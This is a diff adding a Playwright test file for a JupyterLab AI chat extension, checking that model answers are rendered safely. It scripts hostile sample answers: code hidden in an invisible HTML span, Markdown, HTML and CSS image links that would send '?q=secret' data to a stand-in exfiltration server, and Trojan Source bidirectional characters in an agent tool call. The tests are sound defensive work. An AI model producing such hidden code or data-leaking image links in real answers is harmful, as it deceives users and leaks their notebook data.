@@ -1,0 +1,430 @@
+/**
+ * Model answers are untrusted: what runs is what the user saw, and showing an answer fetches
+ * nothing. Raw HTML shows as text (code hidden in it never reaches a cell), images wait for a
+ * click that names their host (a loopback "exfil" server counts what reaches it), the
+ * `<redacted>` marker stays visible, and an agent step's invisible characters are named.
+ */
+
+import { Locator, Page } from '@playwright/test';
+import * as fs from 'fs';
+import * as http from 'http';
+import * as path from 'path';
+
+import {
+  createNotebook,
+  expect,
+  fenced,
+  jupyterApi,
+  Lab,
+  model,
+  test
+} from './fixtures';
+
+/** The exfil server's ports: their own range, apart from JupyterLab's and the model's. */
+const EXFIL_PORTS = [18831, 18832, 18833, 18834, 18835];
+
+const LAB_ORIGIN = new URL(process.env.CHAPYTER_UI_LAB_URL!).origin;
+
+/** A small picture, so a loaded image shows in the screenshots. */
+function picture(label: string, fill: string): string {
+  return (
+    `<svg xmlns="http://www.w3.org/2000/svg" width="160" height="40">` +
+    `<rect width="160" height="40" fill="${fill}"/>` +
+    `<text x="8" y="26" font-family="sans-serif" font-size="16" fill="white">${label}</text></svg>`
+  );
+}
+
+/** A loopback HTTP server on a real socket that counts the requests it receives. */
+class ExfilServer {
+  readonly requests: string[] = [];
+  port = 0;
+
+  async start(): Promise<void> {
+    for (const port of EXFIL_PORTS) {
+      if (await this._listen(port)) {
+        this.port = port;
+        return;
+      }
+    }
+    throw new Error(`no free port among ${EXFIL_PORTS.join(', ')}`);
+  }
+
+  get host(): string {
+    return `127.0.0.1:${this.port}`;
+  }
+
+  async stop(): Promise<void> {
+    await new Promise<void>(resolve => this._server.close(() => resolve()));
+  }
+
+  private _listen(port: number): Promise<boolean> {
+    this._server = http.createServer((request, response) => {
+      this.requests.push(request.url ?? '');
+      response.writeHead(200, {
+        'Content-Type': 'image/svg+xml',
+        'Cache-Control': 'no-store'
+      });
+      response.end(picture('fetched by click', '#b3261e'));
+    });
+    return new Promise(resolve => {
+      this._server.once('error', () => resolve(false));
+      this._server.listen(port, '127.0.0.1', () => resolve(true));
+    });
+  }
+
+  private _server!: http.Server;
+}
+
+/** Every request the page makes to anything but the Jupyter server. */
+function foreignRequests(page: Page): string[] {
+  const seen: string[] = [];
+  page.on('request', request => {
+    const url = request.url();
+    if (url.startsWith('data:') || url.startsWith('blob:')) {
+      return;
+    }
+    if (new URL(url).origin !== LAB_ORIGIN) {
+      seen.push(url);
+    }
+  });
+  return seen;
+}
+
+async function chatNotebook(name: string): Promise<string> {
+  const file = await createNotebook(name, [{ id: 'first', source: 'x = 0' }]);
+  await jupyterApi(
+    'DELETE',
+    `/chapyter-ext/history?notebook=${encodeURIComponent(file)}`
+  );
+  return file;
+}
+
+/** Open the chat, ask, and wait until the (scripted) answer is complete. */
+async function askChat(lab: Lab, text: string): Promise<Locator> {
+  await lab.command('chapyter-ext:open-chat');
+  const panel = lab.page.getByRole('region', { name: 'AI Chat' });
+  await expect(panel).toBeVisible();
+  const input = panel.getByRole('textbox', { name: 'Ask AI' });
+  await input.fill(text);
+  await input.press('Enter');
+  await expect(panel.getByRole('button', { name: 'Send' })).toBeVisible();
+  const answer = panel.locator('.jp-Chapyter-chatMessage.jp-mod-assistant');
+  await expect(answer).toHaveAttribute('aria-busy', 'false');
+  return answer;
+}
+
+/** Give the page time to fetch what it would fetch (images load right after a render). */
+async function settle(page: Page): Promise<void> {
+  await page.evaluate(() => new Promise(resolve => setTimeout(resolve, 1500)));
+}
+
+const HIDDEN_MARKER = 'hidden-ran.txt';
+
+test('code hidden in raw HTML is shown as text and never inserted or run', async ({
+  lab
+}) => {
+  const hidden =
+    `import pathlib; pathlib.Path('${HIDDEN_MARKER}').write_text('ran'); ` +
+    'HIDDEN_RAN = True';
+  // The fenced block holds HTML too: it is code, shown and inserted as written.
+  const code = "print('fenced ran')  # <b>not bold</b>";
+  const answer =
+    'Run this:\n\n' +
+    `<pre><code>print('looks harmless')<span style="display:none">\n${hidden}</span></code></pre>\n\n` +
+    'or this one:\n\n' +
+    fenced(code) +
+    '\n\nDone.';
+  await model.script(answer);
+  const file = await chatNotebook('trust-hidden');
+  await lab.openNotebook(file);
+  await lab.focusEditor(file, 'first');
+
+  const reply = await askChat(lab, 'Print something');
+  // The raw HTML is there as text, hidden part included; it is no code block.
+  const raw = reply.locator('.jp-Chapyter-rawHtml');
+  await expect(raw).toHaveCount(1);
+  await expect(raw).toContainText('<span style="display:none">');
+  await expect(raw).toContainText(hidden);
+  await expect(reply.locator('span[style]')).toHaveCount(0);
+  // One code block, one bar of buttons: the fenced one, shown exactly as sent.
+  await expect(reply.locator('pre')).toHaveCount(1);
+  expect(await reply.locator('pre').textContent()).toBe(code);
+  const bars = reply.getByRole('group', { name: 'Code actions' });
+  await expect(bars).toHaveCount(1);
+  await lab.screenshot('trust-01-hidden-html', reply);
+
+  await bars.getByRole('button', { name: 'Insert and run' }).click();
+  const cells = await lab.waitForCells(
+    file,
+    cells =>
+      cells[1]?.outputs.some(o => o.text.includes('fenced ran')) ?? false,
+    'the fenced block was inserted and ran'
+  );
+  expect(cells).toHaveLength(2);
+  expect(cells[1].source).toBe(code);
+  // The hidden command never ran: no marker file, no variable.
+  const root = process.env.CHAPYTER_UI_ROOT!;
+  expect(fs.existsSync(path.join(root, HIDDEN_MARKER))).toBe(false);
+  await lab.page.evaluate(async file => {
+    const app = (window as any).jupyterapp;
+    const panel = Array.from(app.shell.widgets('main')).find(
+      (w: any) => w.context?.path === file
+    ) as any;
+    const future = panel.sessionContext.session.kernel.requestExecute({
+      code: "print('HIDDEN_RAN' in globals())",
+      silent: false,
+      store_history: false
+    });
+    const out: string[] = [];
+    future.onIOPub = (msg: any) => {
+      if (msg.header.msg_type === 'stream') {
+        out.push(msg.content.text);
+      }
+    };
+    await future.done;
+    (window as any).hiddenProbe = out.join('');
+  }, file);
+  expect(
+    await lab.page.evaluate(() => (window as any).hiddenProbe as string)
+  ).toBe('False\n');
+});
+
+test('showing an answer fetches nothing; an image loads on a click naming its host', async ({
+  lab
+}) => {
+  const exfil = new ExfilServer();
+  await exfil.start();
+  try {
+    const seen = foreignRequests(lab.page);
+    // Percent-encoded, not base64: the server redacts long base64 runs as likely secrets.
+    const dataImage =
+      'data:image/svg+xml,' +
+      encodeURIComponent(picture('data: image', '#1b6e3a'));
+    const answer = [
+      'Here is the chart:',
+      '',
+      `![chart](http://${exfil.host}/md.png?q=secret-from-the-notebook)`,
+      '',
+      `<img src="http://${exfil.host}/html.png?q=secret">`,
+      '',
+      `A styled one <span style="background:url(http://${exfil.host}/css.png)">x</span>`,
+      '',
+      '![far](https://exfil.invalid/far.png?q=secret) and ![rel](plot.png)',
+      '',
+      `And an inline one: ![dot](${dataImage})`,
+      '',
+      'See [the docs](https://docs.example/pandas) for more.'
+    ].join('\n');
+    await model.script(answer);
+    const file = await chatNotebook('trust-images');
+    await lab.openNotebook(file);
+
+    const reply = await askChat(lab, 'Plot it');
+    await settle(lab.page);
+    // The figure of this test: remote fetches while the answer rendered.
+    const fetchesOnRender = exfil.requests.length + seen.length;
+    console.log(
+      `remote fetches on render: ${fetchesOnRender} (exfil server ${exfil.requests.length}, other hosts ${seen.length})`
+    );
+    test.info().annotations.push({
+      type: 'remote fetches on render',
+      description: String(fetchesOnRender)
+    });
+    expect(exfil.requests).toEqual([]);
+    expect(seen).toEqual([]);
+
+    // Raw HTML is text; each Markdown image is a placeholder naming its host.
+    await expect(reply).toContainText(
+      `<img src="http://${exfil.host}/html.png?q=secret">`
+    );
+    const placeholders = reply.locator('.jp-Chapyter-imagePlaceholder');
+    await expect(placeholders).toHaveCount(3);
+    await expect(placeholders.nth(0)).toContainText(
+      `Image "chart" from ${exfil.host}`
+    );
+    await expect(placeholders.nth(1)).toContainText('from exfil.invalid');
+    await expect(placeholders.nth(2)).toContainText(
+      `from ${new URL(LAB_ORIGIN).host}`
+    );
+    // The data: image shows at once.
+    const inline = reply.locator('img[src^="data:image/svg+xml"]');
+    await expect(inline).toBeVisible();
+    await expect
+      .poll(() => inline.evaluate((img: HTMLImageElement) => img.naturalWidth))
+      .toBeGreaterThan(0);
+    // Links stay links, opened without the page as referrer or opener.
+    const link = reply.getByRole('link', { name: 'the docs' });
+    await expect(link).toHaveAttribute('href', 'https://docs.example/pandas');
+    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+    await expect(reply.locator('img:not([src^="data:"])')).toHaveCount(0);
+    await lab.screenshot('trust-02-images-not-loaded', reply);
+
+    // Load the first one from the keyboard: one fetch, to that host only.
+    const load = reply.getByRole('button', {
+      name: `Load image from ${exfil.host}`
+    });
+    await load.focus();
+    await expect(load).toBeFocused();
+    await lab.page.keyboard.press('Enter');
+    const loaded = reply.locator(`img[src^="http://${exfil.host}/md.png"]`);
+    await expect(loaded).toBeVisible();
+    await expect
+      .poll(() => loaded.evaluate((img: HTMLImageElement) => img.naturalWidth))
+      .toBeGreaterThan(0);
+    await settle(lab.page);
+    expect(exfil.requests).toEqual(['/md.png?q=secret-from-the-notebook']);
+    expect(seen).toEqual([
+      `http://${exfil.host}/md.png?q=secret-from-the-notebook`
+    ]);
+    await expect(placeholders).toHaveCount(2);
+    await lab.screenshot('trust-03-image-loaded-on-click', reply);
+  } finally {
+    await exfil.stop();
+  }
+});
+
+test('the <redacted> marker stays visible in prose and in code', async ({
+  lab
+}) => {
+  const code = "api_key = '<redacted>'\nclient = Client(api_key)";
+  await model.script(
+    'Your key is <redacted>, so I left it out.\n\n<redacted>\n\n' +
+      fenced(code) +
+      '\n\nUse `<redacted>` nowhere else.'
+  );
+  const file = await chatNotebook('trust-redacted');
+  await lab.openNotebook(file);
+  const reply = await askChat(lab, 'Connect the client');
+  await expect(reply).toContainText(
+    'Your key is <redacted>, so I left it out.'
+  );
+  await expect(reply).toContainText('Use <redacted> nowhere else.');
+  await expect(reply.locator('.jp-Chapyter-rawHtml')).toHaveText([
+    '<redacted>',
+    '<redacted>'
+  ]);
+  expect(await reply.locator('pre').textContent()).toBe(code);
+  await lab.screenshot('trust-04-redacted', reply);
+});
+
+test('an answer keeps its Markdown; a block nested in a list or quote has its own buttons', async ({
+  lab
+}) => {
+  const first = 'rain = rain.dropna()\nprint(len(rain))';
+  const second = "print('quoted block')";
+  await model.script(
+    [
+      '## Two steps',
+      '',
+      '1. Drop the empty rows:',
+      '',
+      '   ```python',
+      '   ' + first.replace('\n', '\n   '),
+      '   ```',
+      '2. Check the mean $\\bar{x} = \\frac{1}{n}\\sum_i x_i$.',
+      '',
+      '> Or, quoted:',
+      '>',
+      '> ```python',
+      '> ' + second,
+      '> ```',
+      '',
+      '| city | rain |',
+      '|:-----|-----:|',
+      '| Oslo | 763 |',
+      '',
+      'Costs $5 and $6, *nothing* else.'
+    ].join('\n')
+  );
+  const file = await chatNotebook('trust-markdown');
+  await lab.openNotebook(file);
+  await lab.focusEditor(file, 'first');
+  const seen = foreignRequests(lab.page);
+  const reply = await askChat(lab, 'Clean the data');
+  await expect(reply.locator('h2')).toHaveText('Two steps');
+  await expect(reply.locator('ol > li')).toHaveCount(2);
+  await expect(reply.locator('table td').last()).toHaveText('763');
+  await expect(reply.locator('em')).toHaveText('nothing');
+  await expect(reply).toContainText('Costs $5 and $6');
+  // The page's typesetter (MathJax) draws the math.
+  await expect(reply.locator('.jp-Chapyter-math mjx-container')).toHaveCount(1);
+  const blocks = reply.locator('.jp-Chapyter-codeBlock');
+  await expect(blocks).toHaveCount(2);
+  expect(await blocks.nth(0).locator('pre').textContent()).toBe(first);
+  expect(await blocks.nth(1).locator('pre').textContent()).toBe(second);
+  // Highlighting and math fetch nothing from elsewhere either (MathJax's fonts are the lab's).
+  await settle(lab.page);
+  expect(seen).toEqual([]);
+  await lab.screenshot('trust-06-markdown', reply);
+  await blocks.nth(1).getByRole('button', { name: 'Insert below' }).click();
+  const cells = await lab.waitForCells(
+    file,
+    cells => cells.length === 2,
+    'the quoted block was inserted'
+  );
+  expect(cells[1].source).toBe(second);
+});
+
+const SETTINGS = '/lab/api/settings/chapyter-ext:chat';
+
+test('an agent step shows its invisible characters, and runs exactly that code', async ({
+  lab
+}) => {
+  // "Trojan Source": the override makes the comment read as if it were the string's end.
+  const code =
+    'access = "user\u202e \u2066# admin\u2069 \u2066"\nprint(len(access))';
+  await model.script(
+    {
+      tool_calls: [{ name: 'run_code', arguments: { code, purpose: 'Check' } }]
+    },
+    'Done.'
+  );
+  const file = await chatNotebook('trust-agent');
+  await lab.openNotebook(file);
+  await lab.focusEditor(file, 'first');
+  try {
+    await lab.command('chapyter-ext:open-chat');
+    const panel = lab.page.getByRole('region', { name: 'AI Chat' });
+    await panel.getByRole('checkbox', { name: 'Agent mode' }).check();
+    await panel
+      .getByRole('combobox', { name: 'Approval policy' })
+      .selectOption({ label: 'Ask before every run' });
+    const input = panel.getByRole('textbox', { name: 'Ask AI' });
+    await input.fill('Check access');
+    await input.press('Enter');
+
+    const answer = panel.locator('.jp-Chapyter-chatMessage.jp-mod-assistant');
+    const proposed = answer.getByLabel('Proposed code');
+    await expect(proposed).toBeVisible({ timeout: 60_000 });
+    await expect(proposed.locator('.jp-Chapyter-invisibleChar')).toHaveText([
+      'U+202E',
+      'U+2066',
+      'U+2069',
+      'U+2066'
+    ]);
+    await expect(answer.getByRole('note')).toContainText(
+      'invisible or direction-changing characters'
+    );
+    await lab.screenshot('trust-05-agent-invisible', answer);
+    await answer
+      .getByRole('group', { name: 'Approve the step' })
+      .getByRole('button', { name: 'Run' })
+      .click();
+    await expect(answer).toContainText('Done.', { timeout: 60_000 });
+    const cells = await lab.cells(file);
+    const agent = cells.filter(c => c.chapyter?.source === 'agent');
+    expect(agent.map(c => c.source)).toEqual([code]);
+  } finally {
+    const current = await jupyterApi('GET', SETTINGS);
+    let raw: { [key: string]: unknown } = {};
+    try {
+      raw = JSON.parse(current.raw || '{}');
+    } catch {
+      // The settings file holds comments: the defaults are all that is set.
+      raw = {};
+    }
+    delete raw.agentMode;
+    delete raw.agentPolicy;
+    await jupyterApi('PUT', SETTINGS, { raw: JSON.stringify(raw, null, 2) });
+  }
+});
